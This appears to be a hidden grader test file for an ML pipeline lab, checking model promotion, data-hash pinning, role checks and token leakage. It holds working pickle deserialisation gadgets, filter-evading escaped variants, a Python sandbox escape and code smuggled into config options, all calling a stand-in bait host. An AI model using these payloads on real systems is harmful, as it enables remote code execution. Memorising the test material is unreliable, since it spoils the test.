// Hidden checks of ml-pipeline: other gadgets, other options, roles that resemble, a pin that is missing, rows that are wrong.
import type { Act, Build, Call, Judgement, LogEntry, Seen, Step, Surroundings, World } from '../../../../server/labs/index.ts';

export const build: Build = (world) => {
  const shop = makeShop(world);
  const { good, version } = shop;
  const { sha256, reveals } = world;
  const bait = `https://${world.nonce()}.example/ran`;
  const step = (name: string, more: Partial<Around>, calls: Call[], judge: (seen: Seen) => Judgement): Step => ({ name, shows: name, surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, judge });
  /** The same in a process of its own for each of these surroundings; all are judged. */
  const steps = (name: string, mores: Partial<Around>[], calls: Call[], judge: (seen: Seen) => Judgement): Step => {
    const [first = {}, ...rest] = mores;
    const then = (at: number): Act | undefined => {
      const more = rest[at];
      return more && { surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, next: () => then(at + 1) as Act };
    };
    return { ...step(name, first, calls, judge), next: () => then(0) as Act, judge: (_last, acts) => acts.map(judge).find(({ ok }) => !ok) ?? { ok: true } };
  };
  const ran = ({ log }: Seen): Judgement => fails(log.some((entry) => entry.does === 'http.request' && entry.url === bait) && `code of the attacker ran and called ${bait}`);
  const code = `import requests; requests.get("${bait}")`;
  /** Each artefact is moved to production and asked, all in one process. */
  const served = (name: string, ...artefacts: string[]): Step => step(name, { storage: Object.fromEntries([['tags/production', 'm0'], ...artefacts.map((text, at) => [`models/m${at}`, text])]) },
    artefacts.flatMap((_text, at) => [call('promote', 't-approver', `m${at}`), call('predict', 'x')]), ran);
  const rows = (...more: string[]): Partial<Around>[] => more.map((row) => ({ data: `${good}${row}\n` }));
  const refuses = (name: string, ...mores: Partial<Around>[]): Step => steps(name, mores, [call('train', version)], ({ log }) => fails(stored(log) ? 'a model was stored all the same' : announced(log) && 'the registry was told of a model that is not there'));
  const options = (text: string): Partial<Around> => ({ env: { TRAIN_OPTIONS: text } });
  const times = (count: number, text: (at: number) => string, label: string): string => Array.from({ length: count }, (_, at) => `${text(at)},${label}\n`).join('');
  const large = `text,label\n${times(12, () => Array.from({ length: 250 }, (_, at) => `w${at}`).join(' '), 'spam')}${times(12, () => 'often größe', 'spam')}${times(11, () => 'seldom', 'spam')}${times(12, () => 'fine', 'ok')}${times(1, () => 'filler '.repeat(12_000).trim(), 'ok')}`;
  const turned = `text,label\n${times(9, () => shop.spamWord, 'ok')}${times(3, () => shop.okWord, 'spam')}`;
  const anyClass = "c.__name__ == 'catch_warnings'][0]()._module.__builtins__";
  const quiet = (text: string): string => text.replaceAll('__', '_＿').replace(/'_＿import_＿'/, "'_'+'_imp'+'ort_'+'_'");
  const walk = `[c for c in ().__class__.__base__.__subclasses__() if ${anyClass}['__import__']('requests').get('${bait}')`;

  return [
    served('another-gadget', btoa(`cbuiltins\nexec\n(V${code}\ntR.`), btoa(throughGlobals(code)), btoa(throughTheModules(code)), btoa(throughAMethod(code)), btoa(spelt(code))),
    served('an-artefact-that-is-evaluated', btoa(`crequests\nget\n(V${bait}\ntR.`), `__import__('requests').get('${bait}')`, walk, `{'ok': ${walk}}`),
    served('a-gadget-in-an-attribute', btoa(`c_pickle\nloads\n(ccodecs\nencode\n(Vcrequests\\u000aget\\u000a(V${bait}\\u000atR.\nVlatin1\ntRtR.`)),
    steps('options-without-names', [options(`${walk} or {}`), options(`{'min_count': ${quiet(walk)} and 1}`), options(`{**(__import__('requests').get('${bait}') and {})}`)], [call('train', version)], ran),
    step('a-role-that-resembles', {}, [call('train', version), call('train', 'first'), call('promote', 't-approver', 'first'), ...Object.keys(RESEMBLING).map((token) => call('promote', token, version))], ({ log, answers }) => fails((promoted(log) !== 'first' || answers.slice(3).some(({ value }) => (value as { production?: unknown } | undefined)?.production === version)) && `production moved, or was said to have moved, by one of ${Object.values(RESEMBLING).join(', ')}`)),
    step('a-token-nobody-has', {}, [call('train', version), call('promote', 'none', version), call('promote', '', version)], ({ log }) => fails(promoted(log) && 'production moved without a known token')),
    refuses('a-pin-that-is-missing', { env: { DATA_SHA256: undefined } }, { env: { DATA_SHA256: '' } }),
    refuses('a-pin-of-a-part', ...[8, 63].map((length) => ({ pinned: sha256(good).slice(0, length) })), ...[`${good}\n\n`, good.replaceAll('\n', '\r\n'), ` ${good}`].map((data) => ({ data, pinned: sha256(good) }))),
    step('trains-on-what-it-compared', { before: good, data: `${good}"${world.nonce()}",spam\n`, pinned: sha256(good) }, [call('train', version)], ({ answers }) => fails((answers[0]?.value as { rows?: number } | undefined)?.rows === good.trim().split('\n').length && 'a model trained on what the address gave the second time')),
    steps('a-token-that-is-empty', [{ env: { REGISTRY_TOKEN: '' } }], [call('train', version)], ({ log }) => fails(log.some(({ does }) => does === 'service.call' || does === 'http.request' || does === 'storage.put') && 'without a token somebody was called, or something was stored')),
    steps('token-in-what-went-wrong', [{ pinned: sha256('x') }, ...rows(`"${world.nonce()}",promoted`), options('{'), { isDown: true }], [call('train', version), call('promote', 't-reader', version)], ({ printed, answers }) => {
      const line = `${printed}\n${answers.map(({ text }) => text).join('\n')}`.split('\n').find((one) => reveals(one, shop.token));
      return fails(line && `the registry's token, whole or in large part: ${line.slice(0, 200)}`);
    }),
    refuses('a-label-nobody-knows', ...rows(...['promoted', 'OK', '', ' ok', 'spam ', world.nonce()].map((label) => `"${world.nonce()}",${label}`), `"${world.nonce()}"`, `${'"fine",ok\n'.repeat(300)}"${world.nonce()}",promoted`)),
    refuses('an-empty-review', ...rows('"",ok')),
    step('quiet-about-who-promotes', {}, [call('train', version), call('promote', shop.person, version), call('promote', `${shop.person}x`, version)], ({ printed }) => fails(reveals(printed, shop.person) && `the token of whoever promoted, in the log: ${printed.slice(-200)}`)),
    step('large-and-counted', { data: large, env: { TRAIN_OPTIONS: '{"min_count": 12}' } }, [call('train', version), call('promote', 't-approver', version), ...['OFTEN', 'seldom', 'größe', 'w249'].map((word) => call('predict', word))], ({ answers }) => {
      const got = answers.slice(2).map(({ value, text }) => String((value as { label?: unknown } | undefined)?.label ?? text.slice(0, 60))).join(', ');
      return fails(got !== 'spam, ok, spam, spam' && `${got} for words that occur 12, 11, 12 and 12 times in spam, with min_count 12`);
    }),
    {
      ...step('serves-the-new-one', {}, [call('train', 'a')], () => ({ ok: true })),
      next: ({ storage }) => ({ surroundings: around(shop, { data: turned, pinned: sha256(turned), storage }), calls: [call('train', 'b'), call('promote', 't-approver', 'a'), call('predict', shop.spamWord), call('promote', 't-approver', 'b'), call('predict', shop.spamWord)] }),
      judge: ({ answers }) => fails(((label) => label(2) !== 'spam' || label(4) !== 'ok')((at: number) => (answers[at]?.value as { label?: unknown } | undefined)?.label) && `${answers[2]?.text} and, after production moved on, ${answers[4]?.text}`),
    },
    step('promotes-what-is-not-there', { storage: { 'archive/old': '{}', 'models/nightly/n1': '{}' } }, [call('train', `${version}0`), call('promote', 't-approver', `${version}0`), ...['none', version, 'production', 'old', '', 'n1'].map((one) => call('promote', 't-approver', one))], ({ log }) => fails(log.some((entry) => entry.does === 'storage.put' && entry.key === 'tags/production' && entry.text !== `${version}0`) && 'production points at a model that is not there')),
  ];
};

type Shop = { token: string; person: string; url: string; good: string; version: string; okWord: string; spamWord: string };
type Around = { isDown: boolean; data: string; before: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };

/** Tokens of people whose role is not `approver`. */
const RESEMBLING = { 't-trainee': 'approver-trainee', 't-former': 'former approver', 't-capital': 'Approver', 't-part': 'prove', 't-none': '' };

function makeShop(world: World): Shop {
  const [okWord, spamWord] = [world.nonce(), world.nonce()];
  const rows = Array.from({ length: world.int(3, 6) }, (_, at) => `"${okWord} ${world.nonce()}",ok\n"${spamWord} ${at}",spam\n`);
  return { token: `rg-${world.nonce()}`, person: `pt-${world.nonce()}`, url: `https://data.example/${world.nonce()}.csv`, good: `text,label\n${rows.join('')}${rows[0]?.split('\n')[0]}\n`, version: `v${world.int(1, 90)}`, okWord, spamWord };
}

function around({ token, person, url, good }: Shop, { isDown = false, data = good, before, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
  const all: Record<string, string | undefined> = { DATA_URL: url, DATA_SHA256: pinned, REGISTRY_TOKEN: token, ...env };
  return {
    env: Object.fromEntries(Object.entries(all).filter((pair): pair is [string, string] => pair[1] !== undefined)),
    storage,
    http: [...(before === undefined ? [] : [{ url, body: before, times: 1 }]), { url, body: data }, { url: 'https://*', body: '' }],
    services: {
      registry: { announce: [isDown ? { fails: 'the registry is down' } : { returns: true }] },
      tokens: { find: [{ when: [person], returns: { id: 'a2', role: 'approver' } }, { when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, ...Object.entries(RESEMBLING).map(([who, role]) => ({ when: [who], returns: { id: `a${who}`, role } })), { returns: null }] },
    },
  };
}

const call = (name: string, ...args: unknown[]): Call => ({ file: 'pipeline.py', function: name, args });
const fails = (got: string | false | undefined): Judgement => (typeof got === 'string' ? { ok: false, got } : { ok: true });
const stored = (log: readonly LogEntry[]): boolean => log.some((entry) => entry.does === 'storage.put' && entry.key.startsWith('models/'));
const announced = (log: readonly LogEntry[]): boolean => log.some((entry) => entry.does === 'service.call' && entry.service === 'registry');
const promoted = (log: readonly LogEntry[]): string | undefined => {
  const last = log.findLast((entry) => entry.does === 'storage.put' && entry.key === 'tags/production');
  return last?.does === 'storage.put' ? last.text : undefined;
};

/** getattr and globals are enough: the builtins are in there. */
const throughGlobals = (code: string): string => `cbuiltins\ngetattr\n(cbuiltins\nglobals\n(tRVget\ntR(V__builtins__\ntRp1\n0cbuiltins\ngetattr\n(g1\nVget\ntR(Vexec\ntR(V${code}\ntR.`;

/** A class that everybody allows has methods, and a method knows the globals of its module. */
const throughAMethod = (code: string): string => `cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(ccollections\nCounter\nVupdate\ntRV__globals__\ntRp0\n0cbuiltins\ngetattr\n(g0\nVget\ntR(V__builtins__\ntRp1\n0cbuiltins\ngetattr\n(g1\nVget\ntR(Vexec\ntR(V${code}\ntR.`;

/** collections, operator and a dotted name are enough, too. */
const throughTheModules = (code: string): string => `\x80\x04coperator\nattrgetter\n(Vexec\ntR(coperator\ngetitem\n(ccollections\n_sys.modules\nVbuiltins\ntRtR(V${code}\ntR.`;

/** Module, name and code as texts of which every letter is an escape, so that no word stands in the file. */
function spelt(code: string): string {
  const escaped = (text: string): string => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  return `\x80\x04V${escaped('builtins')}\nV${escaped('exec')}\n\x93(V${escaped(code)}\ntR.`;
}
